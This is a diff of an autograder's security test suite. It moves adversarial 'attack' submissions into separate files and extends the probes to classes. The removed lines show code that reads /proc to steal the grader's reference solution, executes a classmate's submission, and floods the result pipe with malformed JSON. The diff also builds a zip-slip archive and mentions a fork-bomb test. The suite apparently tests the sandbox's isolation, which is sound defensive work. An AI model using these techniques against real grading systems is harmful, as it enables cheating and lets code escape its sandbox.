-    raise RuntimeError(f"DISK wrote={written} error=none")
-'''
-
-ALL_VALUEERROR_TEMPLATE = "\ndef {name}(*args, **kwargs):\n    raise ValueError('{name}: every argument is invalid')\n"
-
-# --- crash vectors of the grader (run in separate, expected-to-fail tests) ------------------------
-SURROGATE_DENSITY = r'''
-def categorical_nll(logits, x):
-    raise ValueError("a lone surrogate: \ud800")
-'''
-NONDICT_ERROR_IMPORT = r'''
-import os, sys, struct
-_fd = int(sys.argv[sys.argv.index("--fd-out") + 1])
-_body = b'{"ok": false, "error": "not a dict"}'
-os.write(_fd, struct.pack(">II", len(_body), 0) + _body)
-os._exit(0)
-'''
-DEEP_JSON_IMPORT = r'''
-import os, sys, struct
-_fd = int(sys.argv[sys.argv.index("--fd-out") + 1])
-_body = b'{"ok": false, "error": ' + b"[" * 200000 + b"]" * 200000 + b"}"
-os.write(_fd, struct.pack(">II", len(_body), 0) + _body)
-os._exit(0)
-'''
-STEAL_REFERENCE_IMPORT = r'''
-# Process isolation only: find the grader's working directory and run the reference instead.
-for _ppid in (_os.getppid(),):
-    for _root in (f"/proc/{_ppid}/cwd", "@REPO@"):
-        _path = _os.path.join(_root, "solutions", "week1_mle_sampling", __name__ + ".py")
-        if _os.path.isfile(_path):
-            exec(compile(open(_path).read(), _path, "exec"), globals())
-            break
-'''
-COPYCAT_IMPORT = r'''
-# Run a classmate's submission instead (the batch's other folders, wherever the instructor unpacked them).
-for _root in @SUBS@:
-    _path = _os.path.join(_root, __name__ + ".py")
-    try:
-        with open(_path) as _f:
-            _source = _f.read()
-    except OSError:
-        continue
-    exec(compile(_source, _path, "exec"), globals())
-    break
-'''
+PRELUDE = "\n" + attack_text("prelude.py")
 
 
 # ---------------------------------------------------------------------------------------------
@@ -1022,9 +319,12 @@ class Context:
                    pickle_flag=base / f"pickle-ran-{token}", **kwargs)
 
     def fill(self, code: str, subs: list[Path] = ()) -> str:
+        """Attack code with its placeholders filled in: @WTOKEN@ @PTOKEN@ @REPO@ @OUT@ @PORT@ @ABSTRACT@
+        @PICKLE_FLAG@ as text, @SUBS@ (the folders `subs`) as a JSON list for `json.loads(r'@SUBS@')`."""
+        folders = json.dumps([str(s) for s in subs]).replace("'", "\\u0027")  # safe in r'...'
         return (code.replace("@WTOKEN@", self.wtoken).replace("@PTOKEN@", self.ptoken)
                 .replace("@REPO@", str(self.repo)).replace("@OUT@", str(self.out))
-                .replace("@SUBS@", json.dumps([str(s) for s in subs]))
+                .replace("@SUBS@", folders)
                 .replace("@PORT@", str(self.port)).replace("@ABSTRACT@", self.abstract)
                 .replace("@PICKLE_FLAG@", str(self.pickle_flag)))
 
@@ -1048,9 +348,61 @@ def stub_with(extra: dict[str, str], prelude: bool = True) -> dict[str, str]:
 
 
 def all_valueerror_sources() -> dict[str, str]:
+    """Week 1's always-raise submission: every public function raises ValueError, and so does building its one
+    class, the named tuple GMMResult (see always_valueerror_week_sources)."""
+    from autograder.weeks import get_week
+
+    return always_valueerror_week_sources(get_week(WEEK_FOLDER))
+
+
+# Classes of an always-raise submission. "constructor": building one raises ValueError. "methods": building
+# one succeeds whatever the arguments (an empty nn.Module where the stub's class is a module), and every
+# public method of the stub's class, forward and __call__ raise ValueError, so that a test that builds the
+# object outside check.raises and then calls it with bad arguments inside is probed too.
+ALL_VALUEERROR_TEMPLATE = "\ndef {name}(*args, **kwargs):\n    raise ValueError('{name}: every argument is invalid')\n"
+RAISING_CLASS = "\nclass {name}:\n    def __init__(self, *args, **kwargs):\n        raise ValueError('{name}: every argument is invalid')\n"
+RAISING_METHOD = "    def {method}(self, *args, **kwargs):\n        raise ValueError('{name}.{method}: every argument is invalid')\n"
+
+
+def week_stub_sources(week) -> dict[str, str]:
+    """The stubs of any week (an `autograder.weeks.Week`): assignments/ when generated, else the reference stubbed."""
+    if all((week.assignment_dir / f).is_file() for f in week.graded_files):
+        return {f: (week.assignment_dir / f).read_text() for f in week.graded_files}
+    return {f: markers.stub_source((week.solution_dir / f).read_text(), str(week.solution_dir / f))
+            for f in week.graded_files}
+
+
+def _raising_class(node: ast.ClassDef, classes: str) -> str:
+    name = node.name
+    if classes == "constructor":
+        return RAISING_CLASS.format(name=name)
+    is_module = any(ast.unparse(b).startswith(("nn.", "torch.nn.")) for b in node.bases)
+    methods = {m.name for m in node.body if isinstance(m, ast.FunctionDef) and not m.name.startswith("_")}
+    methods |= {"forward", "__call__"} if not is_module else {"forward"}
+    body = "".join(RAISING_METHOD.format(name=name, method=m) for m in sorted(methods))
+    base = "_rt_nn.Module" if is_module else "object"
+    init = "    def __init__(self, *args, **kwargs):\n        super().__init__()\n"
+    return f"\nclass {name}({base}):\n{init}{body}"
+
+
+def always_valueerror_week_sources(week, classes: str = "constructor") -> dict[str, str]:
+    """A submission of `week` whose every public function and class of the graded files raises ValueError.
+
+    The stubs with, appended, a `def` for each public function that raises ValueError whatever its
+    arguments, and a class for each public class (see RAISING_CLASS: `classes` is "constructor" or
+    "methods"). Module constants and private helpers stay as the stub has them."""
+    if classes not in ("constructor", "methods"):
+        raise ValueError(f"classes must be 'constructor' or 'methods', got {classes!r}")
     out = {}
-    for f, text in stub_sources().items():
-        out[f] = text + "".join(ALL_VALUEERROR_TEMPLATE.format(name=n) for n in public_functions(text))
+    for f, text in week_stub_sources(week).items():
+        tree = ast.parse(text)
+        extra = "\nimport torch.nn as _rt_nn\n"
+        for node in tree.body:
+            if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)) and not node.name.startswith("_"):
+                extra += ALL_VALUEERROR_TEMPLATE.format(name=node.name)
+            elif isinstance(node, ast.ClassDef) and not node.name.startswith("_"):
+                extra += _raising_class(node, classes)
+        out[f] = text + extra
     return out
 
 
@@ -1182,34 +534,20 @@ def build_mini_submissions(ctx: Context) -> dict[str, Path]:
     stubs = stub_sources()
     made: dict[str, Path] = {}
 
-    def attack(name, extra, prelude=True):
-        made[name] = write_submission(root / name, {f: fill(t) for f, t in stub_with(extra, prelude).items()})
+    def attack(name, prelude=True):
+        made[name] = write_submission(root / name, {f: fill(t) for f, t in
+                                                    stub_with(attack_code(name), prelude).items()})
 
     made["reference"] = write_submission(root / "reference", reference_sources())
     made["stub"] = write_submission(root / "stub", stubs)
-    attack("forger", {"density.py": FORGER_IMPORT + FORGER_DENSITY, "sampling.py": FORGER_IMPORT + FORGER_SAMPLING,
-                      "metrics.py": FORGER_IMPORT + FORGER_METRICS})
-    attack("rigged", {"density.py": RIGGED_COMMON + RIGGED_DENSITY, "sampling.py": RIGGED_COMMON + RIGGED_SAMPLING,
-                      "metrics.py": RIGGED_COMMON + RIGGED_METRICS})
-    attack("inspector", {"density.py": INSPECTOR, "sampling.py": INSPECTOR_SAMPLING})
-    attack("snoop", {"density.py": SNOOP, "metrics.py": SNOOP_METRICS})
-    made["exit_import"] = write_submission(root / "exit_import", {f: stubs[f] + EXIT_IMPORT[f] for f in GRADED})
-    attack("exit_call", {"density.py": EXIT_CALL_DENSITY, "sampling.py": EXIT_CALL_SAMPLING,
-                         "metrics.py": EXIT_CALL_METRICS})
-    attack("hang", {"density.py": HANG_DENSITY, "sampling.py": HANG_SAMPLING})
-    attack("memory", {"density.py": MEMORY_DENSITY, "sampling.py": MEMORY_SAMPLING, "metrics.py": MEMORY_METRICS})
-    attack("flood", {"density.py": FLOOD_IMPORT + FLOOD_DENSITY, "sampling.py": FLOOD_SAMPLING})
-    attack("procs", {"density.py": PROCS_IMPORT + PROCS_DENSITY})  # root only: the process limit bounds it
-    attack("network", {"density.py": NETWORK})
-    attack("raw_protocol", {"density.py": RAW_PROTOCOL, "sampling.py": RAW_PROTOCOL.split("def categorical_nll")[0]
-                            + RAW_PROTOCOL_SAMPLING, "metrics.py": RAW_PROTOCOL.split("def categorical_nll")[0]
-                            + RAW_PROTOCOL_METRICS})
-    attack("wrong_types", {"density.py": WRONG_DENSITY, "sampling.py": WRONG_SAMPLING, "metrics.py": WRONG_METRICS})
+    for name in ("forger", "rigged", "inspector", "snoop"):
+        attack(name)
+    attack("exit_import", prelude=False)
+    for name in ("exit_call", "hang", "memory", "flood", "procs", "network", "raw_protocol", "wrong_types"):
+        attack(name)  # procs: root only, where the process limit bounds its fork bomb
     made["always_valueerror"] = write_submission(root / "always_valueerror", all_valueerror_sources())
-    attack("echo_hidden", {"density.py": ECHO_DENSITY})
-    attack("multinomial", {"sampling.py": MULTINOMIAL_SAMPLING})
-    attack("disk_fill", {"density.py": DISK_DENSITY})
-    attack("copycat", {f: COPYCAT_IMPORT for f in GRADED})
+    for name in ("echo_hidden", "multinomial", "disk_fill", "copycat"):
+        attack(name)
 
     # 16. Links to the reference, as files and as a folder.
     link = root / "symlink"
@@ -1221,7 +559,7 @@ def build_mini_submissions(ctx: Context) -> dict[str, Path]:
     made["symlink"] = link
 
     # 13. Zip-slip: paths that climb out, absolute paths, a link entry, backslashes.
-    evil = f"print('{ctx.wtoken}')\n".encode()
+    evil = fill(attack_text("zipslip/escape.py")).encode()
     made["zipslip"] = root / "zipslip.zip"
     made["zipslip"].write_bytes(zip_bytes([
         (f"../../evil-{ctx.wtoken}.py", evil), (f"/tmp/evil-{ctx.wtoken}.py", evil),
@@ -1260,11 +598,10 @@ def build_cli_submissions(ctx: Context) -> dict[str, Path]:
     folders = [root / "reference", root / "stub"]
     made = {"reference": write_submission(root / "reference", reference_sources()),
             "stub": write_submission(root / "stub", stub_sources())}
-    forger = stub_with({"density.py": FORGER_IMPORT + FORGER_DENSITY, "sampling.py": FORGER_IMPORT + FORGER_SAMPLING,
-                        "metrics.py": FORGER_IMPORT + FORGER_METRICS})
+    forger = stub_with(attack_code("forger"))
     made["forger"] = write_submission(root / "forger", {f: ctx.fill(t, folders) for f, t in forger.items()})
     made["always_valueerror"] = write_submission(root / "always_valueerror", all_valueerror_sources())
-    multinomial = stub_with({"sampling.py": MULTINOMIAL_SAMPLING})
+    multinomial = stub_with(attack_code("multinomial"))
     made["multinomial"] = write_submission(root / "multinomial",
                                            {f: ctx.fill(t, folders) for f, t in multinomial.items()})
     return made
@@ -1276,18 +613,18 @@ def build_isolation_submissions(ctx: Context) -> dict[str, Path]:
     folders = [root / "reference"]
     # The copycat comes first: grading starts it before its classmates, whose folders are then untouched.
     made = {"copycat": write_submission(root / "copycat", {f: ctx.fill(t, folders) for f, t in
-                                                           stub_with({f: COPYCAT_IMPORT for f in GRADED}).items()}),
+                                                           stub_with(attack_code("copycat")).items()}),
             "reference": write_submission(root / "reference", reference_sources()),
             "stub": write_submission(root / "stub", stub_sources())}
-    thief = {f: ctx.fill(t, folders) for f, t in stub_with({f: STEAL_REFERENCE_IMPORT for f in GRADED}).items()}
+    thief = {f: ctx.fill(t, folders) for f, t in stub_with(attack_code("steal_reference")).items()}
     made["steal_reference"] = write_submission(root / "steal_reference", thief)
-    # Without the jail the child can write what the grader's user can: these daemons write no file.
-    daemons = PROCS_IMPORT.replace("_rt_forge()", "pass") + \
-        "\ndef gaussian_mle(x):\n    raise RuntimeError('PROCS ' + _json.dumps(_PROCS_STATUS))\n"
+    # Without the jail the child can write what the grader's user can: these daemons write no file
+    # (daemons/density.py, which disables the forgery, goes before the daemons of procs/common.py).
+    daemons = {"density.py": attack_code("daemons")["density.py"] + "\n" + attack_text("procs/common.py")}
     made["daemons"] = write_submission(root / "daemons", {f: ctx.fill(t, folders) for f, t in
-                                                         stub_with({"density.py": daemons}).items()})
+                                                         stub_with(daemons).items()})
     made["network"] = write_submission(root / "network", {f: ctx.fill(t, folders) for f, t in
-                                                         stub_with({"density.py": NETWORK}).items()})
+                                                         stub_with(attack_code("network")).items()})
     return made
 
 
